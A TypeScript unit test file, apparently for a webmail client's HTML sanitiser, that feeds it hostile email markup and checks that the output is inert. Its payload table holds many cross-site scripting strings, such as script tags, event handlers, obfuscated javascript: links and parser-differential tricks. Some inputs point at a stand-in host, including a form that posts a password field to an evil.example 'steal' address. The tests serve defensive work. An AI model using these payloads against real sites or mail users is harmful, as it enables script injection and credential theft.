import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { allowRemoteImages, sanitiseMailHtml } from './html-sanitiser.js';

type Element = DefaultTreeAdapterTypes.Element;

const noCids = { cidUrls: new Map<string, string>() };
const clean = (html: string) => sanitiseMailHtml(html, noCids).html;

const SAFE_ELEMENTS = new Set([
  'p', 'br', 'div', 'span', 'b', 'strong', 'i', 'em', 'u', 's', 'strike', 'del', 'ins', 'sub', 'sup', 'small', 'big',
  'mark', 'abbr', 'cite', 'q', 'code', 'kbd', 'samp', 'tt', 'pre', 'blockquote', 'address', 'center', 'wbr', 'hr',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'table', 'caption', 'thead', 'tbody', 'tfoot',
  'colgroup', 'col', 'tr', 'td', 'th', 'a', 'img', 'font', 'figure', 'figcaption', 'section', 'article', 'header',
  'footer', 'main', 'aside', 'nav',
]);

/** Parses the output as a browser would and collects every element, so a test can check all of them. */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const pending = [...parseFragment(html).childNodes];
  while (pending.length > 0) {
    const node = pending.shift()!;
    if (!('tagName' in node)) continue;
    found.push(node);
    pending.push(...node.childNodes);
  }
  return found;
}

/** The deepest element nesting in the output, as a browser would build it. */
function depthOf(html: string): number {
  let deepest = 0;
  const pending: [DefaultTreeAdapterTypes.ChildNode, number][] = parseFragment(html).childNodes.map((node) => [node, 1]);
  while (pending.length > 0) {
    const [node, depth] = pending.pop()!;
    if (!('tagName' in node)) continue;
    deepest = Math.max(deepest, depth);
    for (const child of node.childNodes) pending.push([child, depth + 1]);
  }
  return deepest;
}

function attr(element: Element, name: string): string | undefined {
  return element.attrs.find((a) => a.name === name)?.value;
}

/** Nothing in the output can run code, load anything, or navigate the frame. */
function expectInert(html: string): void {
  for (const element of elementsOf(html)) {
    expect(SAFE_ELEMENTS).toContain(element.tagName);
    for (const { name, value } of element.attrs) {
      expect(name).not.toMatch(/^on/i);
      expect(['srcset', 'background', 'formaction', 'action', 'xlink:href', 'srcdoc', 'http-equiv']).not.toContain(name);
      if (name === 'style') expect(value).not.toMatch(/url\s*\(|expression|behavior|binding|\\|@import|position/i);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|#)/);
      if (name === 'src') expect(value).toMatch(/^(?:\/|data:image\/(?:png|gif|jpeg|webp);base64,)/);
    }
  }
  expect(html).not.toMatch(/javascript:|vbscript:|<script|<style|<iframe|<svg|<math|<base|<meta|<form|<input|<object|<embed/i);
}

describe('sanitiseMailHtml', () => {
  const hostile: Record<string, string> = {
    'script element': '<p>Hi</p><script>alert(1)</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    'split script tag': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'event handlers': '<img src=x onerror=alert(1)><div onmouseover="alert(1)" ONCLICK=alert(1)>x</div><body onload=alert(1)>',
    'javascript: href': '<a href="javascript:alert(1)">a</a>',
    'javascript: href with entities': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a><a href="&#x6A;avascript&colon;alert(1)">b</a>',
    'javascript: href with whitespace': '<a href="jav&#x09;ascript:alert(1)">a</a><a href="java\nscript:alert(1)">b</a><a href=" \u0001 javascript:alert(1)">c</a>',
    'javascript: href in mixed case': '<a href="JaVaScRiPt:alert(1)">a</a><a href="VBScript:msgbox(1)">b</a>',
    'data: href': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    'svg with script': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><svg/onload=alert(1)>',
    'math namespace confusion': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    'css url() in style attribute': '<div style="background:url(https://evil.example/t.gif); color: red">x</div><p style="background-image: url(&quot;javascript:alert(1)&quot;)">y</p>',
    'css escapes and expression()': '<div style="width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y); background: \\75rl(x)">x</div>',
    'positioning overlays': '<div style="position: fixed; top: 0; left: 0; z-index: 9999">fake login</div>',
    'style element with url()': '<style>body { background: url(https://evil.example/t.gif) } @import "https://evil.example/x.css";</style><p>text</p>',
    'base href': '<base href="https://evil.example/"><a href="/path">rel</a>',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>moved</p>',
    'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
    'forms and controls': '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example">Go</button><textarea>t</textarea><select><option>o</option></select>Label</form>',
    iframes: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="x"></frameset>',
    'object and embed': '<object data="x.swf"><param name="a" value="b"></object><embed src="x.swf"><applet code="X"></applet>',
    'noscript parser differential': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    'comment tricks': '<!--><img src=x onerror=alert(1)>--><!--[if gte mso 9]><script>alert(1)</script><![endif]--><![CDATA[><script>alert(1)</script>]]>',
    'raw text elements': '<title><img src=x onerror=alert(1)></title><xmp><script>alert(1)</script></xmp><noembed><img src=x onerror=alert(1)></noembed>',
    'template content': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    'srcset and background attributes': '<img src="https://ok.example/a.png" srcset="https://evil.example/b.png 2x"><table background="https://evil.example/bg.png"><tr><td background="x.png">c</td></tr></table>',
    'unclosed and misnested tags': '<div><p>unclosed <b>bold <i>both</div><table><tr><td>cell<td><script>alert(1)</script></table><a href="https://ok.example/"><div>block in link</a>',
    'media elements': '<video src="x.mp4" poster="https://evil.example/p.png"></video><audio src="x.mp3"></audio><img src="x" dynsrc="y" lowsrc="z">',
  };

  it.each(Object.entries(hostile))('makes %s inert', (_name, html) => {
    expectInert(clean(html));
  });

  it('keeps the text around removed elements but not their content', () => {
    const html = clean('<p>Before</p><script>steal()</script><style>p{}</style><form>Label<input value="x"></form><p>After</p>');
    expect(html).toBe('<p>Before</p>Label<p>After</p>');
  });

  it('keeps ordinary formatting', () => {
    const input =
      '<h1>Title</h1><p>Some <b>bold</b>, <strong>strong</strong>, <i>italic</i>, <em>em</em> and <u>underlined</u> text.<br>Next line</p>' +
      '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><blockquote>quoted</blockquote><pre><code>code()</code></pre><hr>' +
      '<table border="1"><thead><tr><th>Head</th></tr></thead><tbody><tr><td colspan="2">Cell</td></tr></tbody></table>';
    const html = clean(input);
    expect(html).toBe(
      '<h1>Title</h1><p>Some <b>bold</b>, <strong>strong</strong>, <i>italic</i>, <em>em</em> and <u>underlined</u> text.<br>Next line</p>' +
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><blockquote>quoted</blockquote><pre><code>code()</code></pre><hr>' +
        '<table border="1"><thead><tr><th>Head</th></tr></thead><tbody><tr><td colspan="2">Cell</td></tr></tbody></table>',
    );
  });

  it('keeps the safe part of inline style and drops the rest', () => {
    const html = clean(
      '<p style="color: #c00 !important; background-color: rgb(255, 255, 0); font-weight: bold; font-style: italic; text-align: center; text-decoration: underline; position: absolute; background: url(x)">x</p>',
    );
    expect(html).toBe(
      '<p style="color: #c00; background-color: rgb(255, 255, 0); font-weight: bold; font-style: italic; text-align: center; text-decoration: underline">x</p>',
    );
  });

  it('keeps font colour and face from old mail clients', () => {
    expect(clean('<font color="red" face="Arial, \'Helvetica Neue\'" size="2">x</font>')).toBe(
      '<font color="red" face="Arial, \'Helvetica Neue\'" size="2">x</font>',
    );
  });

  it('opens links in a new browsing context without a referrer', () => {
    const [link] = elementsOf(clean('<a href="https://news.example/story?id=1" target="_self" rel="opener">story</a>'));
    expect(attr(link, 'href')).toBe('https://news.example/story?id=1');
    expect(attr(link, 'rel')).toBe('noopener noreferrer nofollow');
    expect(attr(link, 'target')).toBe('_blank');
  });

  it('keeps mailto:, tel: and in-page links and drops relative ones', () => {
    const links = elementsOf(clean('<a href="mailto:desk@paper.example">m</a><a href="tel:+442079460000">t</a><a href="#top">f</a><a href="/relative">r</a>'));
    expect(links.map((a) => attr(a, 'href'))).toEqual(['mailto:desk@paper.example', 'tel:+442079460000', '#top', undefined]);
  });

  it('rewrites cid: images through the inline-part map and drops unknown ones', () => {
    const cidUrls = new Map([['logo@paper.example', '/api/attachments/7/content']]);
    const result = sanitiseMailHtml('<img src="cid:Logo@Paper.Example" alt="logo"><img src="cid:missing@paper.example"><img src="cid:%3Clogo@paper.example%3E">', { cidUrls });
    expect(result.html).toBe('<img alt="logo" src="/api/attachments/7/content"><img src="/api/attachments/7/content">');
    expect(result.remoteImages).toBe(0);
  });

  it('parks remote images in data-remote-src and counts them', () => {
    const result = sanitiseMailHtml(
      '<img src="https://tracker.example/open.gif?u=1" width="1" height="1"><img src="http://cdn.example/a.png"><img src="//cdn.example/b.png">',
      noCids,
    );
    expect(result.remoteImages).toBe(3);
    const images = elementsOf(result.html);
    expect(images.map((img) => attr(img, 'src'))).toEqual([undefined, undefined, undefined]);
    expect(images.map((img) => attr(img, 'data-remote-src'))).toEqual([
      'https://tracker.example/open.gif?u=1',
      'http://cdn.example/a.png',
      'https://cdn.example/b.png',
    ]);
  });

  it('keeps raster data: images and drops other data: images', () => {
    const result = sanitiseMailHtml('<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><img src="data:text/html,x">', noCids);
    expect(result.html).toBe('<img src="data:image/png;base64,iVBORw0KGgo=">');
  });

  // The parser's cost grows with the depth of open elements; a bounded depth is what keeps the work linear
  // (the time it takes is the intake bench's to measure, not a unit test's).
  it('flattens absurd nesting to a bounded depth instead of hanging', () => {
    const result = sanitiseMailHtml(`${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}<template>`.repeat(2), noCids);
    expect(result.html).toContain('deep');
    expectInert(result.html);
    expect(depthOf(result.html)).toBeLessThanOrEqual(256);
    // The output is no larger than the bounded nesting allows: nothing is repeated per level.
    expect(result.html.length).toBeLessThan(2 * 256 * '<div></div>'.length + 100);
  });
});

describe('allowRemoteImages', () => {
  it('loads parked remote images', () => {
    const { html } = sanitiseMailHtml('<p>Chart:</p><img src="https://cdn.example/chart.png" alt="chart">', noCids);
    expect(allowRemoteImages(html)).toBe('<p>Chart:</p><img alt="chart" src="https://cdn.example/chart.png">');
  });

  it('restores only http and https addresses', () => {
    const restored = allowRemoteImages('<img data-remote-src="javascript:alert(1)"><img data-remote-src="data:image/png;base64,AAAA"><img data-remote-src="http://cdn.example/a.png">');
    expect(elementsOf(restored).map((img) => attr(img, 'src'))).toEqual([undefined, undefined, 'http://cdn.example/a.png']);
    expect(restored).not.toContain('data-remote-src');
  });
});
